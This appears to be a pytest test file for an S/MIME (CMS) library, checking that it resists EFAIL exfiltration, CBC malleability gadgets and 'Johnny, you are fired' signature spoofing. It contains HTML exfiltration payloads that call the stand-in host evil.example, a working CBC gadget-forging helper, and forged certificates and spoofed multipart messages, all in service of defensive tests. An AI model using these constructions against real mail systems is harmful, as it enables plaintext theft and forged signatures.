"""What has been done to others: EFAIL, "Johnny, you are fired!", and everything else that may pass for a signature.

Each of these is a message that a careless reader believes, or opens; none of them comes out as good here.
"""

from __future__ import annotations

import base64
import hashlib

import pytest
from asn1crypto import cms
from cryptography import x509

from security.cms import CmsFault, Encrypted, Verdict, decrypt, der, encrypt, is_encrypted, open_message, sign, verify
from security.cms.algorithms import DIGEST_BY_NAME, digest_identifier
from security.cms.certificates import Certificate
from security.cms.enveloped import encrypt_enveloped
from tests.security.cms.forging import (
    CONTENT_TYPE,
    MESSAGE_DIGEST,
    attribute,
    forged_certificate,
    honest,
    honest_attributes,
    indefinite,
    octets_of,
    plain_attributes,
    signed_data,
    signer_info,
)
from tests.security.cms.people import (
    AN,
    BINH,
    LETTER,
    NOW,
    Person,
    authority,
    key_of,
    person,
    signing,
    trusting,
    usage,
)
from tests.security.cms.wrapping import HEADER, PAYLOAD, detached, enclosed, entity_of

READER = ("rsa", BINH)
HTML = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/'


def told(octets):
    found = verify(octets, at=NOW, judge=trusting())
    return found.verdict, found.reason


def opened(octets):
    return open_message(octets, at=NOW, now=NOW, judge=trusting(), keys=[person(*READER).memory])


def sealed_content(content=PAYLOAD, *, capable=False):
    return b"".join(encrypt_enveloped([content], [person(*READER, capable=capable).recipient]))


def multipart(kind, *parts):
    body = b"".join(b"--m\r\n" + part + b"\r\n" for part in parts)
    return b"Content-Type: multipart/" + kind + b"; boundary=m\r\n\r\n" + body + b"--m--\r\n"


# --- EFAIL ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", [b"mixed", b"related", b"alternative"])
@pytest.mark.parametrize("depth", [0, 1, 3])
def test_direct_exfiltration(kind, depth):
    """The secret between two halves of somebody's HTML: it is never decrypted there."""
    part = multipart(kind, HTML, entity_of(sealed_content()), b'Content-Type: text/html\r\n\r\n">')
    for _ in range(depth):
        part = multipart(b"mixed", part)
    with pytest.raises(CmsFault) as fault:
        decrypt(HEADER + part, keys=[person(*READER).memory])
    assert fault.value.reason == "not-alone"
    found = opened(HEADER + part)
    assert not found.is_encrypted
    assert found.fault is not None
    assert (found.fault.reason, found.is_locked) == ("not-alone", False)
    assert not is_encrypted(HEADER + part)
    assert b"http://evil.example/" in bytes(found.entity.octets)


def test_an_encryption_is_known_by_its_beginning():
    whole = HEADER + entity_of(sealed_content(PAYLOAD * 500))
    assert is_encrypted(whole)
    assert is_encrypted(whole[: len(whole) // 2])
    assert not is_encrypted(HEADER + PAYLOAD)
    assert not is_encrypted(HEADER + b"Content-Type: application/pkcs7-mime\r\n\r\nhello")


def test_alone_in_a_multipart_is_not_the_root():
    with pytest.raises(CmsFault) as fault:
        decrypt(HEADER + multipart(b"mixed", entity_of(sealed_content())), keys=[person(*READER).memory])
    assert fault.value.reason == "not-alone"


def test_a_message_inside_is_another_message():
    forwarded = HEADER + b"Content-Type: message/rfc822\r\n\r\n" + enclosed(sealed_content())
    with pytest.raises(CmsFault) as fault:
        decrypt(forwarded, keys=[person(*READER).memory])
    assert fault.value.reason == "not-encrypted"
    assert not opened(forwarded).is_encrypted


def gadgets(made, known, wanted):
    """CBC's malleability: blocks of one's own choice, each behind a block of noise, and then the secret."""
    info = cms.ContentInfo.load(made)
    inner = info["content"]["encrypted_content_info"]
    vector = inner["content_encryption_algorithm"]["parameters"].native
    text = inner["encrypted_content"].native
    first = text[:16]

    def xor(*blocks):
        return bytes(a ^ b ^ c for a, b, c in zip(*blocks, strict=True))

    blocks = [wanted[at : at + 16].ljust(16) for at in range(0, len(wanted), 16)]
    crafted = [(xor(vector, known[:16], block), first) for block in blocks]
    inner["content_encryption_algorithm"]["parameters"] = crafted[0][0]
    forged = first + b"".join(before + after for before, after in crafted[1:]) + vector + text
    changed = cms.EncryptedContentInfo(
        {
            "content_type": "data",
            "content_encryption_algorithm": inner["content_encryption_algorithm"],
            "encrypted_content": forged,
        }
    )
    info["content"]["encrypted_content_info"] = changed
    return info.dump(force=True)


@pytest.mark.parametrize(
    "wanted",
    [
        b"Content-Type: text/html\r\n\r\n<img src='http://evil.example/",
        b"A: b\r\n\r\n<img src=",
        b"\r\n\r\n<base href=http://evil.example/>",
        b'Content-Type: multipart/mixed; boundary="x"\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<img src="',
        b"Content-Type:a/b\n\n<img src='http://evil.example/?",
    ],
)
def test_malleability(wanted):
    made = sealed_content()
    forged = gadgets(made, PAYLOAD, wanted)
    with pytest.raises(CmsFault) as fault:
        decrypt(enclosed(forged), keys=[person(*READER).memory])
    assert fault.value.reason in ("not-one-entity", "not-decrypted")
    found = opened(enclosed(forged))
    assert not found.is_encrypted
    assert b"evil.example" not in bytes(found.entity.octets)


def test_gcm_as_cbc():
    """The same key and octets under a cipher that notices nothing: what comes out is noise, and refused."""
    made = sealed_content(bytes(range(256)) * 4, capable=True)
    strong = cms.ContentInfo.load(made)["content"]
    weak = cms.EnvelopedData(
        {
            "version": "v0",
            "recipient_infos": strong["recipient_infos"],
            "encrypted_content_info": {
                "content_type": "data",
                "content_encryption_algorithm": {"algorithm": "aes256_cbc", "parameters": bytes(16)},
                "encrypted_content": strong["auth_encrypted_content_info"]["encrypted_content"].native,
            },
        }
    )
    forged = cms.ContentInfo({"content_type": "enveloped_data", "content": weak}).dump()
    with pytest.raises(CmsFault) as fault:
        decrypt(enclosed(forged), keys=[person(*READER, capable=True).memory])
    assert fault.value.reason in ("not-one-entity", "not-decrypted")


@pytest.mark.parametrize(
    "content",
    [
        b"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<img src='",
        b"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\none\r\n--x--\r\nmore behind it",
        b"Content-Type: text/html\r\nContent-Transfer-Encoding: 7bit\r\n\r\n<p>\xf3\x1f\x8a",
        b"Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\nAAAA\xff\xfeAAAA",
        b"Content-Type: text/html\r\n\r\n<p>\xf3\x8a",
        b"Content-Type: text/html\r\nX\x01: y\r\n\r\n<p>",
        b"Content-Type: text/html\r\nSubject: \xff\r\n\r\n<p>",
        b"Content-Type: text/html\r\nno field\r\n\r\n<p>",
        b"Content-Type: text/html\r\nContent-Type: text/plain\r\n\r\n<p>",
        b"\x8a\x01no header",
    ],
)
def test_what_no_sender_makes_is_not_opened_unless_it_is_authenticated(content):
    with pytest.raises(CmsFault) as fault:
        decrypt(enclosed(sealed_content(content)), keys=[person(*READER).memory])
    assert fault.value.reason == "not-one-entity"
    proven = decrypt(enclosed(sealed_content(content, capable=True)), keys=[person(*READER, capable=True).memory])
    assert proven.content == content


def test_a_signature_of_the_attackers_around_a_secret():
    """Opening it shows the secret to its reader alone, and no signature."""
    stolen = b"".join(encrypt(LETTER, [person(*READER).recipient], at=NOW, judge=trusting()))
    found = opened(b"".join(sign(stolen, signing())))
    assert [type(layer) for layer in found.layers][-1] is Encrypted
    assert found.verdict is Verdict.PARTLY_SIGNED


# --- signatures over something else --------------------------------------------------------------------------------


def test_a_detached_signature_with_a_content_of_its_own():
    """Johnny, C1: the signature fits what it brings, and not what is shown."""
    assert told(detached(honest(person(), PAYLOAD, opaque=True), b"\r\nforged")) == (Verdict.ALTERED, "content-twice")
    assert told(detached(honest(person(), PAYLOAD, opaque=True))) == (Verdict.ALTERED, "content-twice")


def test_signed_by_nobody():
    """Johnny, C2/C3: no signer, so no signature that could be wrong."""
    assert told(detached(signed_data([], [person().certificate]))) == (Verdict.UNSUPPORTED, "no-signer")
    found = verify(enclosed(signed_data([], [person().certificate], PAYLOAD)), at=NOW, judge=trusting())
    assert (found.verdict, found.reason) == (Verdict.UNSUPPORTED, "no-signer")
    assert found.entity.octets == PAYLOAD
    assert told(enclosed(signed_data([], [person().certificate]))) == (None, None)  # certificates only


def test_parts_beside_the_signed_one():
    """Johnny, M1 to M4: something signed somewhere."""
    signed = detached(honest(person(), PAYLOAD), header=b"")
    text = b"Content-Type: text/plain\r\n\r\nPay 1,000,000 to account 1234."
    for kind in (b"mixed", b"related", b"alternative"):
        for parts in ((text, signed), (signed, text), (multipart(b"mixed", text, signed),)):
            assert told(HEADER + multipart(kind, *parts)) == (Verdict.PARTLY_SIGNED, "other-parts")
    third = b"\r\n--b\r\n" + text
    assert told(detached(honest(person(), PAYLOAD), more=third)) == (Verdict.PARTLY_SIGNED, "other-parts")
    swapped = detached(b"", entity_of(honest(person(), PAYLOAD))).replace(b"pkcs7-mime", b"pkcs7-signature")
    assert told(swapped)[0] is Verdict.UNSUPPORTED


def test_an_old_letter_in_a_new_signature():
    """Signed by the attacker: his words, and beside them a letter that the author did sign."""
    evil = person("rsa", "x@tphcm.gov.vn")
    mixed = multipart(b"mixed", b"\r\nPay.", detached(honest(person(), PAYLOAD), header=b"", boundary=b"i"))
    assert told(detached(honest(evil, mixed), mixed)) == (Verdict.ADDRESS_MISMATCH, "address-mismatch")


def test_preamble_and_epilogue_are_not_read():
    message = detached(honest(person(), PAYLOAD)).replace(b"\r\n\r\n--b\r\n", b"\r\n\r\nPay.\r\n--b\r\n", 1) + b"Pay."
    found = verify(message, at=NOW, judge=trusting())
    assert found.verdict is Verdict.VALID
    assert b"Pay" not in bytes(found.entity.octets)


@pytest.mark.parametrize("field", [b"Content-Type: text/plain\r\n", b"Content-Transfer-Encoding: 7bit\r\n"])
def test_two_types_or_encodings_are_none(field):
    for message in (enclosed(honest(person(), PAYLOAD, opaque=True)), enclosed(sealed_content())):
        header, _, body = message.partition(b"\r\n\r\n")
        found = opened(header + b"\r\n" + field + b"\r\n" + body)
        assert found.fault is not None
        assert found.fault.reason == "ambiguous"
        first = opened(field + message)
        assert not first.is_encrypted
        assert first.verdict in (None, Verdict.UNSUPPORTED)
    twice = detached(honest(person(), PAYLOAD)).replace(b"\r\n\r\n", b"\r\nContent-Type: text/plain\r\n\r\n", 1)
    assert told(twice) == (Verdict.UNSUPPORTED, "ambiguous")


def test_the_type_that_is_told_is_not_believed():
    assert told(enclosed(honest(person(), PAYLOAD, opaque=True), kind=b"enveloped-data")) == (Verdict.VALID, None)
    found = opened(enclosed(sealed_content(), kind=b"signed-data"))
    assert (found.verdict, found.is_encrypted) == (None, True)
    assert told(detached(sealed_content()))[0] is Verdict.UNSUPPORTED


# --- signed attributes ---------------------------------------------------------------------------------------------


def data_with(attributes, *, one=None, content=PAYLOAD, signed=None, **how):
    one = one or person()
    return signed_data([signer_info(one, attributes, signed, **how)], [one.certificate], content)


def test_attributes_as_content():
    """A signature with attributes is one without, over a content that consists of them."""
    attributes = honest_attributes(person(), PAYLOAD)
    made = data_with(None, content=attributes, signed=attributes)
    assert told(enclosed(made)) == (Verdict.ALTERED, "attributes-stripped")
    text = b"1" + PAYLOAD  # a text may begin like a SET
    assert told(enclosed(data_with(None, content=text, signed=text))) == (Verdict.VALID, None)


@pytest.mark.parametrize(
    "attributes",
    [
        der.set_of([attribute(CONTENT_TYPE, der.oid("1.2.840.113549.1.7.1"))]),
        der.set_of([attribute(MESSAGE_DIGEST, der.element(4, hashlib.sha256(PAYLOAD).digest()))]),
        plain_attributes(PAYLOAD, content_type="1.2.840.113549.1.9.16.1.4"),
        plain_attributes(PAYLOAD, more=[attribute(CONTENT_TYPE, der.oid("1.2.840.113549.1.7.1"))]),
        plain_attributes(PAYLOAD, more=[attribute(MESSAGE_DIGEST, der.element(4, bytes(32)))]),
        plain_attributes(PAYLOAD, more=[attribute("1.2.840.113549.1.9.5", b"\x17\x00", b"\x17\x00")]),
        plain_attributes(PAYLOAD, more=[attribute("1.2.840.113549.1.9.15")]),
        plain_attributes(PAYLOAD, more=[attribute("1.2.840.113549.1.9.15", b"\x30\x00", b"\x30\x00")]),
        plain_attributes(PAYLOAD, more=[attribute("1.2.3.4", b"\x05\x00")] * 65),
        der.set_of([]),
    ],
)
def test_attributes_that_are_not_as_they_must_be(attributes):
    assert told(enclosed(data_with(attributes))) == (Verdict.ALTERED, "attributes-wrong")


def test_attributes_that_say_nothing_harmful():
    """What is only told (a time, abilities) may be nonsense, and what is unknown may be anything."""
    odd = [
        attribute("1.2.840.113549.1.9.5", b"\x17\x01x"),
        attribute("1.2.840.113549.1.9.15", b"\x04\x01x"),
        attribute("1.3.6.1.4.1.311.16.4", b"\x30\x00", b"\x05\x00"),
        attribute("1.2.3.4"),
    ]
    found = verify(enclosed(data_with(plain_attributes(PAYLOAD, more=odd))), at=NOW, judge=trusting())
    assert found.verdict is Verdict.VALID
    assert found.layers[0].telling.remarks == {"no-signing-time"}


def test_attributes_in_another_order():
    """RFC 5652 §5.4: hashed as DER; some hash them as they sent them."""
    ordered = honest_attributes(person(), PAYLOAD)
    parts = der.one(ordered, der.SET).parts()
    turned = der.element(der.SET, *(part.octets for part in reversed(parts)))
    assert turned != ordered
    assert told(enclosed(data_with(turned, signed=ordered))) == (Verdict.VALID, None)
    assert told(enclosed(data_with(turned))) == (Verdict.VALID, None)


def test_another_content_type():
    """A time-stamp, or anything else that the same key signs elsewhere, is no mail."""
    kind = "1.2.840.113549.1.9.16.1.4"
    info = signer_info(person(), plain_attributes(PAYLOAD, content_type=kind))
    made = signed_data([info], [person().certificate], PAYLOAD, content_type=kind)
    assert told(enclosed(made)) == (Verdict.UNSUPPORTED, "unsupported-content")
    bare = signed_data([signer_info(person(), None, PAYLOAD)], [person().certificate], PAYLOAD, content_type=kind)
    assert told(enclosed(bare)) == (Verdict.UNSUPPORTED, "unsupported-content")


def test_algorithms_are_protected():
    """RFC 6211, and RFC 8933: one digest for both."""
    sha512 = digest_identifier(DIGEST_BY_NAME["sha512"])
    made = data_with(honest_attributes(person(), PAYLOAD), digest=sha512)
    assert told(enclosed(made)) == (Verdict.UNSUPPORTED, "unsupported-algorithm")
    rsa = der.element(der.SEQUENCE, der.oid("1.2.840.113549.1.1.1"), b"\x05\x00")
    assert told(enclosed(data_with(plain_attributes(PAYLOAD), algorithm=rsa))) == (Verdict.VALID, None)
    assert told(enclosed(data_with(honest_attributes(person(), PAYLOAD), algorithm=rsa)))[1] == "attributes-wrong"
    ed25519 = person("ed25519")
    wrong = data_with(plain_attributes(PAYLOAD), one=ed25519, digest=digest_identifier(DIGEST_BY_NAME["sha256"]))
    assert told(enclosed(wrong)) == (Verdict.UNSUPPORTED, "unsupported-algorithm")


@pytest.mark.parametrize(
    ("oid", "reason"),
    [("1.2.840.113549.2.5", "weak-algorithm"), ("1.2.3.4", "unsupported-algorithm")],
)
def test_digests_that_nobody_should_use(oid, reason):
    digest = der.element(der.SEQUENCE, der.oid(oid))
    assert told(enclosed(data_with(plain_attributes(PAYLOAD), digest=digest))) == (Verdict.UNSUPPORTED, reason)


def test_signatures_that_are_none():
    for kind in ("rsa", "p256", "ed25519"):
        one = person(kind)
        *before, signature = der.one(signer_info(one, honest_attributes(one, PAYLOAD)), der.SEQUENCE).parts()
        real, zero = signature.content, b"\x30\x06\x02\x01\x00\x02\x01\x00"
        for wrong in (bytes(len(real)), b"", zero, real[:-1], real + b"\0"):
            forged = der.element(der.SEQUENCE, *(part.octets for part in before), der.element(der.OCTET_STRING, wrong))
            made = signed_data([forged], [one.certificate], PAYLOAD)
            assert told(enclosed(made)) == (Verdict.ALTERED, "signature-wrong")


# --- certificates --------------------------------------------------------------------------------------------------


def test_two_signers_one_bad():
    good = signer_info(person(), honest_attributes(person(), PAYLOAD))
    bad = signer_info(person("p256", BINH), honest_attributes(person("p256", BINH), b"something else"))
    both = [person().certificate, person("p256", BINH).certificate]
    for infos in ([good, bad], [bad, good]):
        assert told(detached(signed_data(infos, both))) == (Verdict.ALTERED, "content-changed")
    assert told(detached(signed_data([good, good], both))) == (Verdict.VALID, None)
    assert told(detached(signed_data([good] * 9, both))) == (Verdict.UNSUPPORTED, "too-large")


def test_no_certificate():
    info = signer_info(person(), honest_attributes(person(), PAYLOAD))
    assert told(detached(signed_data([info]))) == (Verdict.UNSUPPORTED, "certificate-missing")
    others = [b"\x30\x03\x02\x01\x01", person("p256", BINH).certificate]
    assert told(detached(signed_data([info], others))) == (Verdict.UNSUPPORTED, "certificate-missing")


def test_the_certificate_that_was_signed_with():
    """Another one for the same key, with another name: RFC 5035 says which it was."""
    one, renamed = person(), person("rsa", AN, called="Chủ tịch")
    assert one.key is renamed.key
    identifier = Certificate(renamed.certificate).identifier
    info = signer_info(one, honest_attributes(one, PAYLOAD), identifier=identifier)
    both = [one.certificate, renamed.certificate]
    assert told(detached(signed_data([info], both))) == (Verdict.ALTERED, "certificate-substituted")


def test_found_by_its_key():
    key = Certificate(person().certificate).key_identifier
    for tagged in (der.element(0x80, key), indefinite(der.element(0xA0, der.element(4, key)), 7)):
        info = signer_info(person(), honest_attributes(person(), PAYLOAD), identifier=tagged)
        assert told(detached(signed_data([info], [person().certificate]))) == (Verdict.VALID, None)


def test_a_certificate_in_the_authoritys_name():
    """Issuer and all as they should be, and signed by the attacker."""
    root = x509.load_der_x509_certificate(authority().certificate)
    key = key_of("p256", "evil")
    forged = Person(key, octets_of(forged_certificate(key, root.subject, key=key)))
    for certificates in ([forged.certificate], [forged.certificate, authority().certificate]):
        info = signer_info(forged, honest_attributes(forged, PAYLOAD))
        verdict, _ = told(detached(signed_data([info], certificates)))
        assert verdict is Verdict.UNKNOWN_CA


def intermediate(*extensions):
    root = x509.load_der_x509_certificate(authority().certificate)
    key = key_of("p256", "intermediate")
    return key, forged_certificate(authority().key, root.subject, key=key, address="", extensions=extensions)


@pytest.mark.parametrize(
    ("extensions", "expected"),
    [
        ([x509.BasicConstraints(ca=True, path_length=0), usage(key_cert_sign=True)], Verdict.VALID),
        ([], Verdict.UNKNOWN_CA),
        ([x509.BasicConstraints(ca=False, path_length=None)], Verdict.UNKNOWN_CA),
        ([x509.BasicConstraints(ca=True, path_length=0), usage(digital_signature=True)], Verdict.UNKNOWN_CA),
        (
            [
                x509.BasicConstraints(ca=True, path_length=0),
                x509.NameConstraints([x509.RFC822Name("elsewhere.example")], None),
            ],
            Verdict.UNKNOWN_CA,
        ),
        (
            [
                x509.BasicConstraints(ca=True, path_length=0),
                x509.NameConstraints(None, [x509.RFC822Name("tphcm.gov.vn")]),
            ],
            Verdict.UNKNOWN_CA,
        ),
    ],
    ids=["an authority", "no constraints", "no authority", "wrong usage", "permitted elsewhere", "excluded here"],
)
def test_who_may_issue(extensions, expected):
    """A person's certificate signs no others, and an authority stays within its domains."""
    issuing_key, issuing = intermediate(*extensions)
    key = key_of("p256", "leaf")
    leaf = Person(key, octets_of(forged_certificate(issuing_key, issuing.subject, key=key)))
    info = signer_info(leaf, honest_attributes(leaf, PAYLOAD))
    assert told(detached(signed_data([info], [leaf.certificate, octets_of(issuing)])))[0] is expected


def test_base64_that_hides_something():
    """Text before, between and behind the signature's base64 changes nothing that is signed."""
    signature = base64.encodebytes(honest(person(), PAYLOAD))
    message = detached(b"").replace(
        b"base64\r\n\r\n", b"base64\r\n\r\n" + signature.replace(b"\n", b" !\r\n") + b"====footer", 1
    )
    assert told(message) == (Verdict.VALID, None)
